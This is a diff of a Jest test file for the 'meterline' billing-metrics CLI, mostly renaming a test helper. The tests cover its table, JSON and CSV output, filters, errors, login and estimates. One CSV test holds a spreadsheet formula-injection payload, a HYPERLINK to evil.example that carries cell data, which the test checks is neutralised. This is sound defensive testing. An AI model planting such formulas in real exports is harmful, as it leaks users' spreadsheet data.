@@ -4,7 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
 import { bearer, event, metricsPath, startApi, type TestApi } from '../contract/fixture.js';
-import { runMeterline } from './run-meterline.js';
+import { runCommand } from './run-command.js';
 
 jest.setTimeout(60_000);
 
@@ -39,7 +39,7 @@ afterAll(async () => {
 
 describe('meterline metrics', () => {
   it('prints a table that adds up, with shares and bars', async () => {
-    const run = await runMeterline(['metrics', ...DAY, '--group-by', 'workspace'], { env });
+    const run = await runCommand(['metrics', ...DAY, '--group-by', 'workspace'], { env });
     expect(run).toMatchObject({ code: 0, stderr: '' });
     expect(run.stdout).toBe(
       [
@@ -56,7 +56,7 @@ describe('meterline metrics', () => {
 
   it('prints usage with its unit, and every digit with --exact', async () => {
     const args = ['metrics', ...DAY, '--group-by', 'billing_dimension,workspace', '--exact'];
-    const { stdout } = await runMeterline(args, { env });
+    const { stdout } = await runCommand(args, { env });
     expect(stdout).toMatch(/^main +sandbox +sandbox_compute_runtime_gbs +\$180\.50 +100\.0% +1,234,568\.891 GB-s /m);
     expect(stdout).toMatch(/^Total +\$180\.500000000001 +100\.0%$/m);
   });
@@ -65,8 +65,8 @@ describe('meterline metrics', () => {
     const wide = { ...env, METERLINE_API_KEY: await api.key('wide') };
     const args = ['metrics', ...DAY, '--group-by', 'resource_name'];
     const [first, all] = await Promise.all([
-      runMeterline(args, { env: wide }),
-      runMeterline([...args, '--all'], { env: wide }),
+      runCommand(args, { env: wide }),
+      runCommand([...args, '--all'], { env: wide }),
     ]);
     expect(first.stderr).toBe('These are the first 100 groups; --all reads every page.\n');
     expect(first.stdout).toMatch(/^\(other groups\) .* \$1\.10 +52\.4%$/m);
@@ -78,9 +78,9 @@ describe('meterline metrics', () => {
 
   it('prints with --json what the API answers, and a page a line with --all', async () => {
     const { text } = await api.request(metricsPath(ACCOUNT, DAY_QUERY), bearer(key));
-    expect((await runMeterline(['metrics', ...DAY, '--json'], { env })).stdout).toBe(`${text}\n`);
+    expect((await runCommand(['metrics', ...DAY, '--json'], { env })).stdout).toBe(`${text}\n`);
     const args = ['metrics', ...DAY, '--group-by', 'resource_name', '--limit', '1', '--all', '--json'];
-    const { stdout } = await runMeterline(args, { env });
+    const { stdout } = await runCommand(args, { env });
     const pages = stdout
       .trimEnd()
       .split('\n')
@@ -90,7 +90,7 @@ describe('meterline metrics', () => {
 
   it('prints CSV whose names are no formulas and whose figures are exact', async () => {
     const args = ['metrics', ...DAY, '--group-by', 'resource_name,billing_dimension', '--csv'];
-    expect((await runMeterline(args, { env })).stdout).toBe(
+    expect((await runCommand(args, { env })).stdout).toBe(
       [
         'workspace,resourceType,resourceName,billingDimension,startTime,endTime,costUsd,usage,unit',
         `main,sandbox,"'=HYPERLINK(""http://evil.example/?""&A1,""total"")",sandbox_compute_runtime_gbs,2025-10-01T00:00:00Z,2025-10-02T00:00:00Z,120,1234567.891,gbs`,
@@ -101,7 +101,7 @@ describe('meterline metrics', () => {
   });
 
   it('prints with --series a line for each bucket', async () => {
-    const { stdout } = await runMeterline(['metrics', ...DAY, '--csv', '--series'], { env });
+    const { stdout } = await runCommand(['metrics', ...DAY, '--csv', '--series'], { env });
     const lines = stdout.trimEnd().split('\r\n');
     expect([lines[0], lines.length, lines[11]]).toEqual([
       'timestamp,resolution,costUsd',
@@ -117,12 +117,12 @@ describe('meterline metrics', () => {
     [['--resource-uuid', ''], '0'],
     [['--billing-dimension', 'sandbox_compute_runtime_gbs', '--resolution', 'daily'], '180.500000000001'],
   ])('filters with %j', async (filter, cost) => {
-    const { stdout } = await runMeterline(['metrics', ...DAY, ...filter, '--json'], { env });
+    const { stdout } = await runCommand(['metrics', ...DAY, ...filter, '--json'], { env });
     expect(stdout).toContain(`"summary":{"totalCost":${cost}}`);
   });
 
   it('says that nothing was used', async () => {
-    const { code, stdout } = await runMeterline(['metrics', '--since', '1h', '--group-by', 'workspace'], { env });
+    const { code, stdout } = await runCommand(['metrics', '--since', '1h', '--group-by', 'workspace'], { env });
     expect({ code, stdout }).toMatchObject({ code: 0, stdout: expect.stringContaining('Nothing was used') });
   });
 });
@@ -159,14 +159,14 @@ describe('what can go wrong', () => {
       /^meterline: there is no API key for http.* \(from METERLINE_API_URL\)/,
     ],
   ])('%s is told on stderr, with an exit code of its own', async (_name, args, variables, code, message) => {
-    const run = await runMeterline(args, { env: { ...env, ...variables } });
+    const run = await runCommand(args, { env: { ...env, ...variables } });
     expect({ code: run.code, stdout: run.stdout }).toEqual({ code, stdout: '' });
     expect(run.stderr).toMatch(message);
   });
 
   it('a member who groups by workspace is told why not', async () => {
     const member = { ...env, METERLINE_API_KEY: await api.key(ACCOUNT, 'member') };
-    const run = await runMeterline(['metrics', ...DAY, '--group-by', 'workspace'], { env: member });
+    const run = await runCommand(['metrics', ...DAY, '--group-by', 'workspace'], { env: member });
     expect(run).toMatchObject({
       code: 3,
       stderr: expect.stringContaining('only an admin may group or filter by workspace'),
@@ -178,28 +178,28 @@ describe('login', () => {
   it('keeps a key that works, in a file for its owner alone; logout forgets it', async () => {
     const file = join(directory, 'config.json');
     const own = { METERLINE_CONFIG: file };
-    const login = await runMeterline(['login', '--api-url', `${api.url}/v0/`], { env: own, stdin: `${key}\n` });
+    const login = await runCommand(['login', '--api-url', `${api.url}/v0/`], { env: own, stdin: `${key}\n` });
     expect(login).toMatchObject({ code: 0, stdout: '', stderr: expect.stringContaining('admin of acme') });
     expect(login.stderr).not.toContain(key);
     expect((await stat(file)).mode & 0o777).toBe(0o600);
     expect(JSON.parse(await readFile(file, 'utf8'))).toEqual({ apiUrl: api.url, apiKey: key, account: ACCOUNT });
 
-    const who = await runMeterline(['whoami', '--json'], { env: own });
+    const who = await runCommand(['whoami', '--json'], { env: own });
     expect(JSON.parse(who.stdout)).toMatchObject({ apiUrl: api.url, keyFrom: file, account: ACCOUNT });
     expect(who.stdout).not.toContain(key);
-    expect((await runMeterline(['resource-types', ...DAY], { env: own })).stdout).toBe('sandbox\n');
+    expect((await runCommand(['resource-types', ...DAY], { env: own })).stdout).toBe('sandbox\n');
     // A key is not sent to an address that it was not given for.
-    expect(await runMeterline(['accounts', '--api-url', 'http://127.0.0.1:9'], { env: own })).toMatchObject({
+    expect(await runCommand(['accounts', '--api-url', 'http://127.0.0.1:9'], { env: own })).toMatchObject({
       code: 2,
     });
 
-    expect(await runMeterline(['logout'], { env: own })).toMatchObject({ code: 0 });
-    expect(await runMeterline(['accounts', '--api-url', api.url], { env: own })).toMatchObject({ code: 2 });
+    expect(await runCommand(['logout'], { env: own })).toMatchObject({ code: 0 });
+    expect(await runCommand(['accounts', '--api-url', api.url], { env: own })).toMatchObject({ code: 2 });
   });
 
   it('tells what comes before it', async () => {
     const own = { METERLINE_CONFIG: join(directory, 'second.json'), METERLINE_API_URL: 'http://127.0.0.1:9' };
-    const { code, stderr } = await runMeterline(['login', '--api-url', api.url], { env: own, stdin: `${key}\n` });
+    const { code, stderr } = await runCommand(['login', '--api-url', api.url], { env: own, stdin: `${key}\n` });
     expect({ code, stderr }).toMatchObject({
       code: 0,
       stderr: expect.stringContaining(`http://127.0.0.1:9 (from METERLINE_API_URL) comes before it`),
@@ -211,7 +211,7 @@ describe('login', () => {
     ['no key', '', 2],
   ])('keeps nothing of %s', async (_name, stdin, code) => {
     const file = join(directory, 'none.json');
-    const run = await runMeterline(['login', '--api-url', api.url], { env: { METERLINE_CONFIG: file }, stdin });
+    const run = await runCommand(['login', '--api-url', api.url], { env: { METERLINE_CONFIG: file }, stdin });
     expect(run.code).toBe(code);
     await expect(stat(file)).rejects.toMatchObject({ code: 'ENOENT' });
   });
@@ -219,7 +219,7 @@ describe('login', () => {
 
 describe('without a server', () => {
   it('dimensions lists units and prices', async () => {
-    const { code, stdout, stderr } = await runMeterline(['dimensions']);
+    const { code, stdout, stderr } = await runCommand(['dimensions']);
     expect({ code, lines: stdout.trimEnd().split('\n').length }).toEqual({ code: 0, lines: 13 });
     expect(stdout).toMatch(/^volume_storage_gbs +volume +GB-s +\$0\.12 per GB-month$/m);
     expect(stderr).toContain('built-in example book');
@@ -227,7 +227,7 @@ describe('without a server', () => {
 
   it('estimate prices a list, and a file of events, as the service would', async () => {
     const args = ['estimate', 'agent_compute_runtime_gbs=86400', 'agent_async_requests_count=1000000', '--json'];
-    expect(JSON.parse((await runMeterline(args)).stdout)).toEqual({
+    expect(JSON.parse((await runCommand(args)).stdout)).toEqual({
       currency: 'USD',
       lines: [
         { billingDimension: 'agent_compute_runtime_gbs', usage: '86400', cost: '0.9936' },
@@ -241,10 +241,8 @@ describe('without a server', () => {
       '{"billingDimension":"volume_storage_gbs","usage":"1","eventId":"x"}\n\n{"billingDimension":"volume_storage_gbs","usage":2,"void":true}\n',
     );
     // 0.12 / 2,628,000, rounded half-even once to 12 decimals.
-    expect((await runMeterline(['estimate', '--file', file, '--json'])).stdout).toContain(
-      '"totalCost":"0.000000045662"',
-    );
-    const bad = await runMeterline(['estimate', '--file', '-'], {
+    expect((await runCommand(['estimate', '--file', file, '--json'])).stdout).toContain('"totalCost":"0.000000045662"');
+    const bad = await runCommand(['estimate', '--file', '-'], {
       stdin: '{"billingDimension":"volume_storage_gbs"}\n',
     });
     expect(bad).toMatchObject({ code: 1, stderr: expect.stringContaining('standard input:1: usage must be') });
